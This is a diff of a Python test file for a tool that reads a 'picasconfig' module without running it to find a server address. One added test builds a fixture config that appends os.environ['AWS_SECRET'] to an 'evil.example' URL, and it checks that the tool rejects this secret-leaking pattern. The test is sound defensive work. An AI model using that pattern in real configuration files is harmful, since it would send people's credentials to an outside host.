@@ -219,7 +219,7 @@ def test_a_picasconfig_is_read_and_not_run(tmp_path: Path) -> None:
     "text",
     [
         f'PICAS_HOST_URL = "https://" + "picas.example" + f":{{6984!s}}"\n{PLAIN[PLAIN.index("PICAS_D") :]}',
-        f'import os\n{PLAIN}PICAS_HOST_URL = os.uname()[0]\nif True:\n    pass\n',
+        f"import os\n{PLAIN}PICAS_HOST_URL = os.uname()[0]\nif True:\n    pass\n",
     ],
 )
 def test_what_only_running_it_would_tell_is_said(tmp_path: Path, text: str) -> None:
@@ -233,17 +233,33 @@ def test_what_only_running_it_would_tell_is_said(tmp_path: Path, text: str) -> N
     "text",
     [
         'host = "picas.example"\nPICAS_HOST_URL = f"https://{host}:6984"\n',
-        'import os\nPICAS_HOST_URL = os.environ["SERVER"]\n',
-        'import os\nPICAS_HOST_URL = os.environ.get("SERVER")\n',
-        'import os\nPICAS_HOST_URL = os.getenv("SERVER", "https://wrong.example")\n',
-        f'import os\nPICAS_HOST_URL = os.getenv("NO_SERVER", "{HOST}")\n',
+        'import os\nPICAS_HOST_URL = os.environ["PICAS_SERVER"]\n',
+        'import os\nPICAS_HOST_URL = os.environ.get("PICAS_SERVER")\n',
+        'import os\nPICAS_HOST_URL = os.getenv("PICAS_SERVER", "https://wrong.example")\n',
+        f'import os\nPICAS_HOST_URL = os.getenv("PICAS_NO_SERVER", "{HOST}")\n',
         f'PICAS_HOST_URL: str = "https://old.example"\nPICAS_HOST_URL = "{HOST}"\n',
-        f'PICAS_HOST_URL = OTHER = ("https://picas.example"\n":6984")\n',
+        'PICAS_HOST_URL = OTHER = ("https://picas.example"\n":6984")\n',
     ],
 )
 def test_texts_and_variables_are_put_together(tmp_path: Path, text: str) -> None:
     module(tmp_path, f'{text}PICAS_DATABASE = "survey"\n')
-    assert found(tmp_path, SERVER=HOST).pool == POOL
+    assert found(tmp_path, PICAS_SERVER=HOST).pool == POOL
+
+
+@pytest.mark.parametrize("call", ["os.environ['AWS_SECRET']", "os.getenv('AWS_SECRET', '')"])
+def test_no_other_variable_of_the_environment_gets_into_an_address(tmp_path: Path, call: str) -> None:
+    """A file that came with somebody's repository would send it to their server."""
+    module(tmp_path, f'import os\nPICAS_HOST_URL = "https://evil.example/" + {call}\nPICAS_DATABASE = "db"\n')
+    with pytest.raises(ConfigError, match="worked out by code"):
+        found(tmp_path, AWS_SECRET=SECRET)
+
+
+@pytest.mark.parametrize("text", ['"a"' + ' + "a"' * 1500, "a" + ".b" * 1500])
+def test_a_picasconfig_that_is_nested_too_deeply_is_one_line(tmp_path: Path, text: str) -> None:
+    module(tmp_path, f"PICAS_HOST_URL = {text}\n")
+    with pytest.raises(ConfigError) as caught:
+        found(tmp_path)
+    assert len(str(caught.value)) < 400
 
 
 @pytest.mark.parametrize(
